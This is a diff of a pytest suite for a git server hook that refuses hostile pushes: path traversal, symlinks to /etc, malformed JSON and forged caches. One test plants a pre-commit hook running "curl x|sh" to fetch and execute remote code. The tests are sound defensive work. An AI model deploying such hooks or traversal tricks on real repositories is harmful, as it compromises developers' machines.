@@ -12,14 +12,7 @@ import threading
 
 import pytest
 from conftest import git
-from test_pre_receive import (  # noqa: F401, F811 - fixtures
-    clone,
-    forge,
-    has_object,
-    push,
-    record_edits,
-    server,
-)
+from test_pre_receive import clone, forge, has_object, push, record_edits, server  # noqa: F401
 
 from gitkb import record as rec
 from gitkb.samples import synthetic
@@ -91,7 +84,7 @@ def root_tree(store: Store) -> str:
     return git("rev-parse", f"{store.tip}^{{tree}}", cwd=store.location).stdout.strip()
 
 
-def refused_by(done, server, commit: str, rule: str) -> str:
+def refused_by(done, server, commit: str, rule: str) -> str:  # noqa: F811
     """The push was refused in one ``gitkb:`` line naming ``rule``; nothing stayed."""
     output = done.stdout + done.stderr
     assert done.returncode != 0, output
@@ -103,7 +96,7 @@ def refused_by(done, server, commit: str, rule: str) -> str:
 
 
 @pytest.fixture
-def held(server, clone):
+def held(server, clone):  # noqa: F811
     """A clone whose main (one admitted record) the server holds already."""
     record = synthetic.strategy(1)
     clone.admit(rec.dumps(record), "insert")
@@ -121,7 +114,7 @@ def insert_trailers(record_id: str, action: str = INSERT) -> list:
 # --------------------------------------------------------------------------- deletes
 
 
-def test_a_retract_that_deletes_the_record_is_refused(server, clone, held):
+def test_a_retract_that_deletes_the_record_is_refused(server, clone, held):  # noqa: F811
     path = rec.path_for(held)
     tree = put(clone.location, root_tree(clone), [p.encode() for p in path.split("/")], None)
     commit = commit_tree(clone, tree, "retract", held["id"])
@@ -129,14 +122,14 @@ def test_a_retract_that_deletes_the_record_is_refused(server, clone, held):
     assert "the store has no delete" in line
 
 
-def test_an_import_that_removes_the_records_folder_is_refused(server, clone, held):
+def test_an_import_that_removes_the_records_folder_is_refused(server, clone, held):  # noqa: F811
     tree = put(clone.location, root_tree(clone), [b"records"], None)
     commit = commit_tree(clone, tree, "import", "everything")
     refused_by(push(clone), server, commit, "history")
 
 
 @pytest.mark.parametrize("mode", ["120000", "160000"], ids=["symlink", "gitlink"])
-def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):
+def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):  # noqa: F811
     target = blob(clone.location, b"/etc") if mode == "120000" else clone.tip
     tree = put(clone.location, root_tree(clone), [b"records"], (mode, target))
     commit = commit_tree(clone, tree, "import", "relink")
@@ -148,7 +141,7 @@ def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):
 
 
 @pytest.mark.parametrize("name", ["gitkb.toml", ".gitattributes"])
-def test_deleting_a_control_file_is_refused(server, clone, held, name):
+def test_deleting_a_control_file_is_refused(server, clone, held, name):  # noqa: F811
     tree = put(clone.location, root_tree(clone), [name.encode()], None)
     commit = commit_tree(clone, tree, "upgrade", "gitkb-2")
     refused_by(push(clone), server, commit, "history")
@@ -157,7 +150,7 @@ def test_deleting_a_control_file_is_refused(server, clone, held, name):
 # --------------------------------------------------------------------------- control files
 
 
-def test_a_rewritten_hook_config_is_refused(server, clone, held):
+def test_a_rewritten_hook_config_is_refused(server, clone, held):  # noqa: F811
     evil = b"repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c 'curl x|sh'\n"
     tree = put(clone.location, root_tree(clone), [b".pre-commit-config.yaml"],
                ("100644", blob(clone.location, evil)))  # fmt: skip
@@ -170,7 +163,7 @@ def test_a_rewritten_hook_config_is_refused(server, clone, held):
     assert ".pre-commit-config.yaml" in line
 
 
-def test_a_config_with_unknown_keys_is_refused(server, clone, held):
+def test_a_config_with_unknown_keys_is_refused(server, clone, held):  # noqa: F811
     config = b'[store]\nname = "x"\nformat = "gitkb-2"\nschema = "clean-1.3"\nhook = "sh"\n'
     tree = put(clone.location, root_tree(clone), [b"gitkb.toml"],
                ("100644", blob(clone.location, config)))  # fmt: skip
@@ -195,7 +188,7 @@ def test_a_config_with_unknown_keys_is_refused(server, clone, held):
     ],
     ids=["lone-surrogate", "nan", "duplicate-key", "huge-number"],
 )
-def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mutation, needle):
+def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mutation, needle):  # noqa: F811
     record = synthetic.strategy(2)
     text = mutation(rec.dumps(record).decode())
     commit = forge(clone, {rec.path_for(record): text.encode()}, f"kb insert {record['id']}",
@@ -204,7 +197,7 @@ def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mut
     assert needle in line
 
 
-def test_a_record_over_the_size_limit_is_refused(server, clone, held):
+def test_a_record_over_the_size_limit_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(3)
     record["payload"]["mechanism"] = "x" * (1 << 20)
     commit = forge(clone, record_edits({rec.path_for(record): record}),
@@ -213,7 +206,7 @@ def test_a_record_over_the_size_limit_is_refused(server, clone, held):
     assert "over the limit" in line
 
 
-def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone, held):
+def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone, held):  # noqa: F811
     path = f"feedback/{held['id']}.jsonl"
     line = b'{"kind": "increment", "counts": {"applied_count": 1' + b"0" * 400 + b"}}\n"
     commit = forge(clone, {path: line}, f"kb feedback {held['id']}",
@@ -222,7 +215,7 @@ def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone,
     assert "does not fit a double" in found
 
 
-def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):
+def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):  # noqa: F811
     path = f"ledger/{held['id']}.jsonl"
     commit = forge(clone, {path: b'{"event": "promote", "score": 99}\n'},
                    f"kb attest {held['id']}", insert_trailers(held["id"], "attest"))  # fmt: skip
@@ -242,21 +235,21 @@ def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):
     ],
     ids=["dotdot", "dotdot-path", "dot-git", "control-byte"],
 )
-def test_entries_that_leave_a_folder_are_refused(server, clone, held, where):
+def test_entries_that_leave_a_folder_are_refused(server, clone, held, where):  # noqa: F811
     data = blob(clone.location, rec.dumps(synthetic.strategy(4)))
     tree = put(clone.location, root_tree(clone), where, ("100644", data))
     commit = commit_tree(clone, tree, "import", "odd-names")
     refused_by(push(clone), server, commit, "entries")
 
 
-def test_an_empty_folder_named_dotdot_is_refused(server, clone, held):
+def test_an_empty_folder_named_dotdot_is_refused(server, clone, held):  # noqa: F811
     empty = write_tree(clone.location, [])
     tree = put(clone.location, root_tree(clone), [b"records", b".."], ("40000", empty))
     commit = commit_tree(clone, tree, "import", "nothing")
     refused_by(push(clone), server, commit, "entries")
 
 
-def test_an_executable_record_is_refused(server, clone, held):
+def test_an_executable_record_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(5)
     data = blob(clone.location, rec.dumps(record))
     parts = [p.encode() for p in rec.path_for(record).split("/")]
@@ -266,7 +259,7 @@ def test_an_executable_record_is_refused(server, clone, held):
     assert "executable" in line
 
 
-def test_names_that_differ_in_case_only_are_refused(server, clone, held):
+def test_names_that_differ_in_case_only_are_refused(server, clone, held):  # noqa: F811
     data = blob(clone.location, b"# report\n")
     tree = put(clone.location, root_tree(clone), [b"reports", b"T", b"mine.md"], ("100644", data))
     commit_tree(clone, tree, "report", "T")
@@ -277,7 +270,7 @@ def test_names_that_differ_in_case_only_are_refused(server, clone, held):
     assert "case" in line
 
 
-def test_a_tree_naming_one_entry_twice_is_refused(server, clone, held):
+def test_a_tree_naming_one_entry_twice_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(6)
     parts = rec.path_for(record).split("/")
     folder = put(clone.location, None, [parts[-1].encode()],
@@ -299,7 +292,7 @@ def raise_gain(record: dict) -> None:
     record["worth"]["gain"]["pct"] = record["worth"]["gain"]["metrics"][0]["delta_pct"] = 99.0
 
 
-def test_an_insert_over_an_existing_record_is_refused(server, clone, held):
+def test_an_insert_over_an_existing_record_is_refused(server, clone, held):  # noqa: F811
     record = json.loads(rec.dumps(held))
     raise_gain(record)
     commit = forge(clone, record_edits({rec.path_for(record): record}), f"kb insert {held['id']}",
@@ -308,7 +301,7 @@ def test_an_insert_over_an_existing_record_is_refused(server, clone, held):
     assert "kb insert may not change" in line
 
 
-def test_a_confirm_may_not_touch_the_gain(server, clone, held):
+def test_a_confirm_may_not_touch_the_gain(server, clone, held):  # noqa: F811
     record = json.loads(rec.dumps(held))
     raise_gain(record)
     record["worth"]["track"]["counters"]["verified_effective"] += 1
@@ -318,7 +311,7 @@ def test_a_confirm_may_not_touch_the_gain(server, clone, held):
     assert "it changes worth.gain" in line
 
 
-def test_an_unknown_action_word_is_refused(server, clone, held):
+def test_an_unknown_action_word_is_refused(server, clone, held):  # noqa: F811
     record = synthetic.strategy(7)
     commit = forge(clone, record_edits({rec.path_for(record): record}), f"kb bogus {record['id']}",
                    insert_trailers(record["id"], "bogus"))  # fmt: skip
@@ -329,7 +322,7 @@ def test_an_unknown_action_word_is_refused(server, clone, held):
 
 
 @pytest.mark.parametrize("ref", ["refs/heads/wip", "refs/tags/v1"])
-def test_other_refs_are_refused(server, clone, held, ref):
+def test_other_refs_are_refused(server, clone, held, ref):  # noqa: F811
     record = json.loads(rec.dumps(synthetic.strategy(8)))
     record["payload"]["mechanism"] = "see /home/alice/kernels/x.py"
     tip = clone.tip
@@ -343,7 +336,7 @@ def test_other_refs_are_refused(server, clone, held, ref):
 # --------------------------------------------------------------------------- the cache
 
 
-def test_a_forged_server_cache_lets_no_duplicate_id_through(server, clone, held):
+def test_a_forged_server_cache_lets_no_duplicate_id_through(server, clone, held):  # noqa: F811
     cache = server / "gitkb-cache" / "index.sqlite3"
     with sqlite3.connect(cache) as db:
         db.execute("DELETE FROM records")
@@ -379,7 +372,7 @@ def test_concurrent_pushes_never_leave_main_citing_an_unreached_trace(tmp_path, 
     ref = "refs/kb/traces/kernel_opt_001_softmax"
     landed = 0
     for n in range(4):
-        server = tmp_path / f"server-{n}.git"
+        server = tmp_path / f"server-{n}.git"  # noqa: F811
         Store.init(server, bare=True)
         assert kb("hooks", "install", "--server", str(server)).returncode == 0
         a, b = tmp_path / f"a-{n}", tmp_path / f"b-{n}"
@@ -390,8 +383,9 @@ def test_concurrent_pushes_never_leave_main_citing_an_unreached_trace(tmp_path, 
         git("update-ref", ref, theirs, cwd=b)
         results: dict = {}
         pushes = {
-            "a": lambda a=a: git("push", "--porcelain", "origin", "main", ref, cwd=a,
-                                 check=False),  # fmt: skip
+            "a": lambda a=a: git(
+                "push", "--porcelain", "origin", "main", ref, cwd=a, check=False
+            ),  # fmt: skip
             "b": lambda b=b: git("push", "--porcelain", "origin", ref, cwd=b, check=False),
         }
         threads = [
@@ -486,7 +480,7 @@ def test_every_writer_makes_history_the_rules_accept(tmp_path):
 
 
 @pytest.mark.parametrize("transport", ["git-daemon", "smart-http"])
-def test_attacks_are_refused_over_git_daemon_and_smart_http(server, clone, held, tmp_path,
+def test_attacks_are_refused_over_git_daemon_and_smart_http(server, clone, held, tmp_path,  # noqa: F811
                                                             transport):  # fmt: skip
     from test_pre_receive import git_daemon, smart_http
 
